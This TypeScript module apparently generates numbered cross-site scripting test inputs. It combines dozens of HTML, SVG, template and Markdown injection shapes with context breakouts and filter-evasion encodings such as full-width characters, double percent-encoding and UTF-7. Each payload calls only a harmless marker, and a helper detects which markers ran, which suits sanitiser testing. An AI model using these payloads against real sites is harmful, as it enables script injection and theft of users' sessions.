/** A text that would run as code where a page took it for anything but text; `_x(number)` reports that it ran. */
export interface HostileText {
  number: number
  text: string
}

/** Code that runs, from the usual to the forgotten. `run` is the call that reports it. */
const shapes: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src/onerror=${run}//`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>">`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<body onpageshow=${run} onload=${run}>`,
  (run) => `<form action="javascript:${run}"><button autofocus onfocus=${run}>x</button></form>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<link rel=stylesheet href=data:, onload=${run} onerror=${run}>`,
  (run) => `<style onload=${run}>@import"data:,"</style>`,
  (run) => `<p style="animation:x" onanimationstart=${run}>x</p>`,
  (run) => `<dialog open oncontentvisibilityautostatechange=${run}>x</dialog>`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}<%=${run}%>#{${run}}`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>opener.${run}</script>`,
]

/** Text that ends whatever a page may have put around it. */
const breakouts: readonly string[] = [
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '-->',
  ']]>',
  '"}]}</script>',
  "\\');",
]

type Encoding = (text: string) => string

const each = (marks: RegExp, write: (mark: string) => string): Encoding => {
  return (text) => text.replace(marks, write)
}
const hex = (mark: string) => mark.charCodeAt(0).toString(16)

/** Encodings that a page would let through if it decoded once too often, or filtered by pattern. */
const encodings: readonly Encoding[] = [
  each(/[<>"]/g, (mark) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;' })[mark] ?? mark),
  each(/[<>"]/g, (mark) => `&#${mark.charCodeAt(0)};`),
  each(/</g, () => '&#x0000003c'),
  each(/[<>"' ]/g, (mark) => `%${hex(mark)}`),
  each(/[<>]/g, (mark) => `%25${hex(mark)}`),
  each(/[<>"]/g, (mark) => `\\u00${hex(mark)}`),
  each(/[<>]/g, (mark) => `\\x${hex(mark)}`),
  // Full-width characters, which become plain ones under Unicode normalisation.
  each(/[<>"]/g, (mark) => String.fromCharCode(mark.charCodeAt(0) + 0xfee0)),
  each(/</g, () => '+ADw-'),
  each(/<(\w)/g, (mark) => mark.toUpperCase()),
  each(/ /g, () => '\u2028'),
  each(/ /g, () => '/'),
  each(/ /g, () => '\n'),
  each(/<(?=\w)/g, () => '<\u00ad<'),
]

/** Markdown: addresses that run, and HTML where Markdown allows it. */
const markdown: readonly ((run: string) => string)[] = [
  (run) => `[x](javascript:${run})`,
  (run) => `[x](java&#115;cript:${run})`,
  (run) => `[x](javascript&colon;${run})`,
  (run) => `[x](\\javascript:${run})`,
  (run) => `[x](<javascript:${run}>)`,
  (run) => `[x](data:text/html,<script>${run}</script>)`,
  (run) => `[x](https://makit.example/"onmouseover=${run}//)`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `![x" onerror=${run} y](x)`,
  (run) => `<javascript:${run}>`,
  (run) => `<https://makit.example/"onclick=${run}>`,
  (run) => `[x]: javascript:${run}`,
  (run) => `~~~"><img src=x onerror=${run}>`,
  (run) => `| <img src=x onerror=${run}> | x |`,
  (run) => `**<img src=x onerror=${run}>**`,
  (run) => `\`<img src=x onerror=${run}>\``,
]

/** Every shape as it is, behind every breakout and in every encoding, and the Markdown: each with a number of its own. */
export function hostileTexts(): HostileText[] {
  const writers: ((run: string) => string)[] = shapes.flatMap((shape) => [
    shape,
    ...breakouts.map((breakout) => (run: string) => breakout + shape(run)),
    ...encodings
      .filter((encoding) => encoding(shape('')) !== shape(''))
      .map((encoding) => (run: string) => encoding(shape(run))),
  ])
  return [...writers, ...markdown].map((write, index) => ({
    number: index + 1,
    text: write(`_x(${index + 1})`),
  }))
}

const called = /_x\((\d+)\)/g

/** The numbers of the hostile texts in a text, whatever has happened to their characters. */
export const numbersIn = (text: string): number[] =>
  [...text.matchAll(called)].map(([, number]) => Number(number))
